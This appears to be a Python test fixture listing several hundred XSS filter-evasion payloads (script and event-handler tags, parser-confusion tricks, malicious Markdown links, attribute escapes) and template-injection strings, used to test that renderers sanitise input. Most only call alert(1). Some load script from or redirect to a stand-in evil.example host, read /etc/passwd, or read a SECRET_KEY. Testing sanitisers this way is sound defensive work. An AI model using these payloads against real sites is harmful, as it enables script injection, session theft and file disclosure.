"""Texts that try to run a script or leave their place (trials XS-01 to XS-04).

Each calls ``alert(1)`` or ``boom()`` if it runs; none does harm. Pages, mail, PDF, feeds and print views are fed
with all of ``PAYLOADS``; ``TEMPLATES`` must come out as the letters they are.
"""

TAGS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
<script
>alert(1)</script
>
<script type=module>import("data:text/javascript,alert(1)")</script>
<script>/*</script><script>*/alert(1)</script>
<script>alert`1`</script>
<img src=x onerror=alert(1)>
<img src=x OnErRoR=alert(1)//
<img/src="x"/onerror="alert(1)">
<img src="x` `onerror=alert(1)">
<img src=x onerror="&#97;lert(1)">
<img srcset="x 1x" onerror=alert(1)>
<image src=x onerror=alert(1)>
<img src='x' onerror	=	alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onend=alert(1) attributeName=x dur=1s>
<svg><a href="javascript:alert(1)"><text y=20>tap</text></a></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>tap</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<math><mtext></mtext><mi xlink:href="javascript:alert(1)">tap</mi></math>
<math href="javascript:alert(1)">tap</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">tap</maction></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;">
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<applet code="javascript:alert(1)">
<base href="javascript:/alert(1)//">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<link rel=stylesheet href="data:text/css,*{x:expression(alert(1))}">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=script href=x onload=alert(1) onerror=alert(1)>
<style>@import "javascript:alert(1)";</style>
<style>*{background:url("javascript:alert(1)")}</style>
<style onload=alert(1)></style>
<form action="javascript:alert(1)"><button>tap</button></form>
<form><button formaction="javascript:alert(1)">tap</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">tap</button>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<select autofocus onfocus=alert(1)><option>x</select>
<keygen autofocus onfocus=alert(1)>
<button popovertarget=x>tap</button><div popover id=x onbeforetoggle=alert(1)>y</div>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>tap</button></form></dialog>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster="javascript:alert(1)"></video>
<audio src=x onerror=alert(1) autoplay></audio>
<track default src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<marquee onstart=alert(1)>x</marquee>
<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>
<div style="animation:x 1s" onanimationstart=alert(1)>x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div contenteditable autofocus onfocus=alert(1) tabindex=0>x</div>
<p oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</p>
<a href="javascript:alert(1)">tap</a>
<a href="  javascript:alert(1)">tap</a>
<a href="java&#9;script:alert(1)">tap</a>
<a href="&#x6A;avascript&colon;alert(1)">tap</a>
<a href="javascript&#0000058alert(1)">tap</a>
<a href="JaVaScRiPt:alert(1)" target=_blank>tap</a>
<a href="data:text/html,<script>opener.alert(1)</script>">tap</a>
<a href="vbscript:alert(1)">tap</a>
<a href="x" ping="javascript:alert(1)" onclick=alert(1)>tap</a>
<a id=location href="//evil.example">x</a><a id=location name=href>y</a>
<area href="javascript:alert(1)" shape=rect coords=0,0,9999,9999>
<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></xml>
<x onclick=alert(1) tabindex=1>tap</x>
<custom-element onpointerenter=alert(1)>x</custom-element>
<template><script>alert(1)</script></template>
<div><template shadowrootmode=open><script>alert(1)</script></template></div>
<isindex type=image src=1 onerror=alert(1)>
<table background="javascript:alert(1)"><tr><td>x</table>
<portal src="javascript:alert(1)"></portal>
<bgsound src="javascript:alert(1)">
<?xml-stylesheet href="javascript:alert(1)"?>
<!--><script>alert(1)</script>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]><x>&e;</x>
"""

# Parsers that disagree with one another: a tag that one closes and another does not.
DISAGREEMENTS = r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mi><style><a title="</style><img src=x onerror=alert(1)>"></mi></math>
<title><a title="</title><img src=x onerror=alert(1)>">
<textarea><a title="</textarea><img src=x onerror=alert(1)>">
<xmp><a title="</xmp><img src=x onerror=alert(1)>">
<noembed><a title="</noembed><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<select><template><style><a title="</style><img src=x onerror=alert(1)>">
<table><td><svg><style><td title="</style><img src=x onerror=alert(1)>">
<p><svg><desc><p title="</desc></svg><img src=x onerror=alert(1)>">
<a title="`"><img src=x onerror=alert(1)>`
<b <script>alert(1)</script>0
<<script>alert(1)//<</script>
<img src="x" alt="``onerror=alert(1)">
<div title="&quot; onmouseover=&quot;alert(1)">x</div>
<ruby><rt><iframe src=javascript:alert(1)></rt></ruby>
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
"""

MARKDOWN = r"""
[tap](javascript:alert(1))
[tap](JAVASCRIPT:alert(1))
[tap](  javascript:alert(1)  )
[tap](<javascript:alert(1)>)
[tap](<java	script:alert(1)>)
[tap](java&Tab;script:alert(1))
[tap](java&NewLine;script:alert(1))
[tap](&#106;avascript:alert(1))
[tap](&#x6a;&#x61;vascript&colon;alert(1))
[tap](javascript&#58;alert(1))
[tap](\javascript:alert(1))
[tap](java\script:alert(1))
[tap](javascript:%61lert(1))
[tap](javascript://https://x.example/%0Aalert(1))
[tap](data:text/html,<script>alert(1)</script>)
[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[tap](data:image/svg+xml,<svg/onload=alert(1)>)
[tap](vbscript:msgbox(1))
[tap](file:///etc/passwd)
[tap](blob:https://x.example/1)
[tap](filesystem:https://x.example/temporary/x.html)
[tap](view-source:javascript:alert(1))
[tap](//evil.example/x)
[tap](/\evil.example)
[tap](?x=1#y)
[tap](https://x.example "title\" onmouseover=\"alert(1)")
[tap](https://x.example/" onmouseover="alert(1))
[tap](https://x.example 'a"><script>alert(1)</script>')
[tap](https://x.example/<script>alert(1)</script>)
[a](<https://x.example/"><img src=x onerror=alert(1)>>)
[<script>alert(1)</script>](https://x.example)
[<img src=x onerror=alert(1)>][r] [r]: https://x.example
[r] [r]: javascript:alert(1)
![x](javascript:alert(1))
![x](https://evil.example/pixel.gif)
![x" onerror="alert(1)](x)
![x](x "y\" onerror=\"alert(1)")
[![x](x)](javascript:alert(1))
<javascript:alert(1)>
<data:text/html,<script>alert(1)</script>>
<https://x.example/"onmouseover="alert(1)>
<a@b.example"onclick="alert(1)>
https://x.example/"onmouseover=alert(1)//
https://x.example/<script>alert(1)</script>
http://javascript:alert(1)@x.example
mailto:a@b.example?body=<script>alert(1)</script>
`<script>alert(1)</script>`
```"><script>alert(1)</script>
```html onmouseover=alert(1)
    <script>alert(1)</script>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
# <svg onload=alert(1)>
| <script>alert(1)</script> | b |
**<b onmouseover=alert(1)>x</b>**
~~<iframe src=javascript:alert(1)>~~
1. [tap](javascript:alert(1) "x")
*[tap](javascript:alert(1))*
\<script>alert(1)\</script>
<div>
<details>
"""

# Texts that leave an attribute, a script block, a title or a line of their own.
ESCAPES = r"""
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
" autofocus onfocus="alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
";alert(1)//
';alert(1)//
\";alert(1)//
${alert(1)}
`+alert(1)+`
</a><a href="javascript:alert(1)">
javascript:alert(1)
*/alert(1)/*
{"__proto__":{"x":"<script>alert(1)</script>"}}
x" hx-on:click="alert(1)" data-x="
x" hx-get="https://evil.example/" hx-trigger="load
#eval("panic(1)")
#image("/etc/passwd")
\input{/etc/passwd}
"""

TEMPLATES = ["{{7*7}}", "{% debug %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('boom()')()}}", "%(name)s", "%s%n", "{0.real}", "[[7*7]]", "@(7*7)"]  # fmt: skip  # noqa: E501

PAYLOADS = [line for group in (TAGS, DISAGREEMENTS, MARKDOWN, ESCAPES) for line in group.strip("\n").split("\n") if line.strip()]
PAYLOADS += ["java\nscript:alert(1)", "[tap](java\nscript:alert(1))", "<script\x00>alert(1)</script>", "<a href='java\x00script:alert(1)'>tap</a>"]
PAYLOADS += [
    "<img src=x\u2028onerror=alert(1)>",
    "[r]\n\n[r]: javascript:alert(1)",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "```\n</pre><script>alert(1)</script>",
]
